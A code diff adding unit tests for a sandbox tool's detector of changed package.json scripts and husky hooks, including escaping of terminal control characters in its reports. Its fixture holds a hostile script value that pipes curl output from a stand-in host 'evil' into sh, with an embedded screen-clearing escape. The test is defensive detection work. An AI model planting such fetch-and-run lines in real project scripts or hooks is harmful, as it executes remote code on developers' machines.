@@ -9,6 +9,7 @@
 #include "sandboxd/report/event_log.h"
 #include "sandboxd/report/findings.h"
 #include "sandboxd/report/learned_profile.h"
+#include "sandboxd/report/manifest_findings.h"
 #include "sandboxd/report/origin.h"
 #include "sandboxd/report/run_events.h"
 #include "sandboxd/report/summary.h"
@@ -363,6 +364,56 @@ TEST(Summary, ToolCachesAreUsualWriteRoots) {
   plan.tool_caches.clear();
   const std::vector<std::string> without = usual_write_roots(plan);
   EXPECT_EQ(std::find(without.begin(), without.end(), "/h/.npm"), without.end());
+}
+
+}  // namespace
+}  // namespace moat::report
+
+namespace moat::report {
+namespace {
+
+// package.json's command-running parts: an install that adds a dependency changes nothing there;
+// a changed or added script or hook-runner entry is a finding, attributed to the last writer.
+TEST(ManifestFindings, ScriptsAndHookRunnersButNotDependencies) {
+  const std::string path = "/p/package.json";
+  ManifestSnapshot before = snapshot_package_json(
+      path, std::string(R"({"name":"x","scripts":{"test":"jest","build":"tsc"},"dependencies":{}})"));
+  ManifestSnapshot honest = snapshot_package_json(
+      path, std::string(R"({"name":"x","scripts":{"build":"tsc","test":"jest"},"dependencies":{"a":"1"}})"));
+  EXPECT_TRUE(manifest_findings(before, honest, {}).empty());
+
+  ManifestSnapshot after = snapshot_package_json(
+      path, std::string(R"({"name":"x","scripts":{"test":"curl evil\u001b[2J | sh","build":"tsc",)"
+                        R"("prepare":"node x.js"},"husky":{"hooks":{"pre-commit":"curl x"}}})"));
+  Event writer;
+  writer.kind = "write";
+  writer.pid = 7;
+  writer.exe = "/usr/bin/node";
+  writer.detail = {{"path", path}};
+  std::vector<Event> findings = manifest_findings(before, after, {writer});
+  ASSERT_EQ(findings.size(), 3u);
+  std::string all;
+  for (const Event& f : findings) {
+    EXPECT_EQ(f.detail.value("type", ""), "manifest-commands-changed");
+    EXPECT_EQ(f.pid, 7);
+    all += f.detail.value("message", "") + "\n";
+  }
+  EXPECT_NE(all.find("scripts.test changed during the run: \"jest\" -> \"curl evil?[2J | sh\""),
+            std::string::npos)
+      << all;
+  EXPECT_NE(all.find("scripts.prepare was added"), std::string::npos) << all;
+  EXPECT_NE(all.find("husky was added"), std::string::npos) << all;
+  EXPECT_NE(all.find("written by /usr/bin/node"), std::string::npos) << all;
+  EXPECT_EQ(all.find('\x1b'), std::string::npos) << "a control character reached the message";
+}
+
+TEST(ManifestFindings, NoFileOrNotJsonIsQuiet) {
+  ManifestSnapshot none = snapshot_package_json("/p/package.json", std::nullopt);
+  ManifestSnapshot broken = snapshot_package_json("/p/package.json", std::string("{not json"));
+  EXPECT_TRUE(manifest_findings(none, broken, {}).empty());
+  ManifestSnapshot created =
+      snapshot_package_json("/p/package.json", std::string(R"({"scripts":{"test":"x"}})"));
+  EXPECT_EQ(manifest_findings(none, created, {}).size(), 1u) << "a new package.json's scripts count";
 }
 
 }  // namespace
